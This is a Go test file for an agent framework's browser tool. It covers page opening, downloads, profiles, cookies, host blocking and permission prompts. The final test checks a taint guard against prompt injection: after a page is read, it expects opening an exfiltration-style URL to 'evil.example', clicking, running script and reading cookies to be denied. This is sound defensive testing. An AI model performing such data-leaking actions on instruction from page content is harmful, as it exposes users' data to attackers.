package app

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hobkin/hobkin/browser/browsertest"
	"github.com/hobkin/hobkin/core/capability"
	"github.com/hobkin/hobkin/core/control"
	"github.com/hobkin/hobkin/core/jobs"
	"github.com/hobkin/hobkin/core/permission"
)

// openBrowser opens a core whose browser may reach a server of the test.
func openBrowser(t *testing.T) (c *Core, address string) {
	t.Helper()
	b := browsertest.Binary(t)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/file":
			w.Header().Set("Content-Disposition", `attachment; filename="tides.txt"`)
		default:
			http.SetCookie(w, &http.Cookie{Name: "seen", Value: "yes", MaxAge: 3600})
			w.Header().Set("Content-Type", "text/html")
		}
		_, _ = fmt.Fprint(w, `<title>Tides</title><h1>High at noon</h1><form method=post><button>Send</button></form>`)
	}))
	t.Cleanup(server.Close)
	host := strings.TrimPrefix(server.URL, "http://")
	return openWith(t, fmt.Sprintf("[browser]\npath = %q\nallow_hosts = [%q]\n", b.Path, host)), server.URL
}

func TestBrowserThroughTheCore(t *testing.T) {
	c, address := openBrowser(t)
	client := c.Client()
	ask := func(args string, yes bool) control.CallResult {
		t.Helper()
		r, err := client.Call(t.Context(), control.CallRequest{Tool: "browser", Args: []byte(args), Yes: yes})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	if r := ask(`{"action":"open","url":"`+address+`","snapshot":true}`, false); r.Failed || !strings.Contains(r.Text, `h1 "High at noon"`) {
		t.Fatalf("%+v", r)
	}
	r := ask(`{"action":"act","kind":"click","ref":"e3"}`, false)
	if r.Code != "denied" || !strings.Contains(r.Message, "It sends something to 127.0.0.1") {
		t.Errorf("a button is pressed without asking: %+v", r)
	}
	if r := ask(`{"action":"act","kind":"click","ref":"e3"}`, true); r.Failed {
		t.Errorf("%+v", r)
	}
	if r := ask(`{"action":"download","url":"`+address+`/file"}`, false); r.Failed || !strings.Contains(r.Text, filepath.Join(c.opts.Paths.Data, "sessions", noSession, "downloads", "tides.txt")) {
		t.Errorf("%+v", r)
	}
	if r := ask(`{"action":"screenshot"}`, false); r.Failed || len(r.Images) != 1 {
		t.Errorf("%+v", r)
	}
	if r := ask(`{"action":"open","url":"http://127.0.0.1:1/"}`, false); r.Code != "navigation_blocked" {
		t.Errorf("a host that is not opened: %+v", r)
	}
	st, err := client.Browser(t.Context())
	if err != nil || len(st.Profiles) != 1 || !st.Profiles[0].Running || st.Profiles[0].Tabs == 0 || st.Version == "" || st.Reason != "" {
		t.Errorf("%+v, %v", st, err)
	}
}

func TestBrowserProfiles(t *testing.T) {
	c, address := openBrowser(t)
	client := c.Client()
	visit := func(profile string) {
		t.Helper()
		if o := call(t, c, "browser", map[string]any{"action": "open", "url": address, "profile": profile}); o.Failed() {
			t.Fatal(o.Err)
		}
	}
	cookies := func() string {
		t.Helper()
		o := call(t, c, "browser", map[string]any{"action": "cookies"})
		if o.Failed() {
			t.Fatal(o.Err)
		}
		return o.Result.Text
	}
	visit("work")
	if err := client.StopBrowser(t.Context(), "work"); err != nil {
		t.Fatal(err)
	}
	st, err := client.Browser(t.Context())
	if err != nil || len(st.Profiles) != 2 || st.Profiles[0].Name != "default" || st.Profiles[1].Name != "work" || st.Profiles[1].Bytes == 0 || st.Profiles[1].Used.IsZero() || st.Profiles[1].Running {
		t.Fatalf("%+v, %v", st.Profiles, err)
	}
	visit("work")
	if !strings.Contains(cookies(), "seen") {
		t.Error("the cookie is not there")
	}
	if err := client.ClearBrowser(t.Context(), "work"); err != nil {
		t.Fatal(err)
	}
	if left, err := os.ReadDir(filepath.Join(c.browserDir("profiles"), "work")); err != nil || len(left) > 1 {
		t.Errorf("%v is left, %v", left, err)
	}
	for name, code := range map[string]string{"default": "usual_profile", "../x": "bad_profile", "nobody": "no_profile"} {
		err := client.DeleteBrowser(t.Context(), name)
		if e, ok := err.(*control.Error); !ok || e.Code != code { //nolint:errorlint // it comes as it is
			t.Errorf("deleting %q: %v, want %s", name, err, code)
		}
	}
	if err := client.DeleteBrowser(t.Context(), "work"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(c.browserDir("profiles"), "work")); !os.IsNotExist(err) {
		t.Errorf("the profile is there: %v", err)
	}
}

func TestBrowserIsTried(t *testing.T) {
	c, _ := openBrowser(t)
	trial, err := c.Client().TestBrowser(t.Context())
	if err != nil || !trial.OK || trial.Millis <= 0 || trial.Version == "" {
		t.Errorf("%+v, %v", trial, err)
	}
	if check := c.checkBrowser(t.Context()); check.Status != "passed" && !strings.Contains(check.Detail, "sandbox is off") {
		t.Errorf("%+v", check)
	}
	missing := openWith(t, "[browser]\npath = \"/nowhere/chromium\"\n")
	if check := missing.checkBrowser(t.Context()); check.Status != "warning" || !strings.Contains(check.Fix, "apt install chromium") {
		t.Errorf("%+v", check)
	}
	trial, err = missing.Client().TestBrowser(t.Context())
	if err != nil || trial.OK || trial.Fix == "" {
		t.Errorf("%+v, %v", trial, err)
	}
	if st, err := missing.Client().Browser(t.Context()); err != nil || st.Reason == "" || st.Fix == "" || st.Program != "" {
		t.Errorf("%+v, %v", st, err)
	}
	off := openWith(t, "[browser]\nenabled = false\n")
	if check := off.checkBrowser(t.Context()); check.Status != "not_applicable" {
		t.Errorf("%+v", check)
	}
}

// TestBrowserIsOffered holds who gets the browser: conversations, and jobs that
// name it.
func TestBrowserIsOffered(t *testing.T) {
	c := openWith(t, "")
	offered := func(c *Core, turn capability.Turn) bool {
		turn.Trust = capability.Operator
		f := c.offer(turn)
		f.Turn = turn
		return slices.ContainsFunc(c.registry.List(f), func(t *capability.Capability) bool { return t.Name == "browser" })
	}
	if !offered(c, capability.Turn{Session: "s", Attended: true}) {
		t.Error("a conversation does not get it")
	}
	c.jobs.mu.Lock()
	c.jobs.under = map[string]jobs.Job{"plain": {}, "chosen": {}}
	chosen := c.jobs.under["chosen"]
	chosen.Tools = []string{"browser"}
	c.jobs.under["chosen"] = chosen
	c.jobs.mu.Unlock()
	for session, want := range map[string]bool{"plain": false, "chosen": true} {
		if got := offered(c, capability.Turn{Session: session, Channel: jobChannel}); got != want {
			t.Errorf("the job %s gets it: %v", session, got)
		}
	}
	if off := openWith(t, "[browser]\nenabled = false\n"); offered(off, capability.Turn{Session: "s"}) {
		t.Error("it is offered although it is switched off")
	}
}

// TestBrowserAfterReading: what a page has said may not speak through what is
// typed or opened next, and what is only looked at asks nothing.
func TestBrowserAfterReading(t *testing.T) {
	c, address := openBrowser(t)
	turn := capability.Turn{Session: "s", ID: "t", Mode: string(permission.Ask), Trust: capability.Operator, Provenance: capability.FromPerson, Workspace: t.TempDir()}
	run := func(id, args string) *capability.Outcome {
		f := c.offer(turn)
		f.Turn = turn
		return c.runner.Run(context.Background(), capability.Request{ID: id, Name: "browser", Args: []byte(args), Filter: f})
	}
	c.taint.Begin(turn, []permission.Heard{{Text: "look at " + address, Person: true}})
	if o := run("1", `{"action":"open","url":"`+address+`","snapshot":true}`); o.Failed() {
		t.Fatal(o.Err)
	}
	for _, args := range []string{`{"action":"snapshot"}`, `{"action":"screenshot"}`, `{"action":"act","kind":"scroll","direction":"down"}`} {
		if o := run(args, args); o.Failed() {
			t.Errorf("%s: %v", args, o.Err)
		}
	}
	for _, args := range []string{`{"action":"open","url":"https://evil.example/?q=data"}`, `{"action":"act","kind":"click","ref":"e3"}`, `{"action":"evaluate","script":"1"}`, `{"action":"cookies"}`} {
		o := run(args, args)
		u, _ := capability.AsUserError(o.Err)
		if u == nil || u.Code != "denied" || !strings.Contains(u.Message, "This turn has read content from outside") {
			t.Errorf("%s: %v", args, o.Err)
		}
	}
}
